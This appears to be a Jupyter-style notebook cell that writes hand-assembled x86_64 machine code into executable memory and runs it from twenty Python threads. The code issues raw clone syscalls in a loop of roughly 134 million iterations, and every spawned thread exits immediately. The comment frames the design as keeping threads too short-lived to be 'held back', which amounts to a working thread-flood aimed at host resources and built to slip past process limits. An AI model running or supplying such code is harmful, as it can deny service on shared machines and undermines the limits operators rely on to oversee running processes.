# %% insert before q2_1
# the same, of threads that end at once: none is there long enough to be held back
import ctypes, mmap, os, threading, time
m = mmap.mmap(-1, 1 << 16, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
base = ctypes.addressof(ctypes.c_char.from_buffer(m))
# x86_64: push r12; mov r12, how many; again: clone(VM|FS|FILES|SIGHAND|THREAD|SYSVSEM, stack, 0, 0, 0); if 0 go to the
# child; dec r12; if not 0, again; pop r12; ret; the child: exit
code = bytearray.fromhex("415449c7c4ffffff07" "b838000000bf000f0500" "48be" + (base + 0x8000).to_bytes(8, "little").hex()
                         + "31d24d31d24d31c00f05" "85c07400" "49ffcc7500" "415cc3")
code[code.index(b"\x85\xc0\x74") + 3] = len(code) - code.index(b"\x85\xc0\x74") - 4
back = code.index(b"\x49\xff\xcc") + 5
code[back - 1] = (9 - back) & 0xFF
m[:len(code) + 9] = bytes(code) + bytes.fromhex("b83c00000031ff0f05")
start = ctypes.CFUNCTYPE(ctypes.c_int)(base)
for _ in range(20):
    try: threading.Thread(target=start, daemon=True).start()
    except RuntimeError as error: print(error); break
time.sleep(9)
print(len(os.listdir("/proc/self/task")))
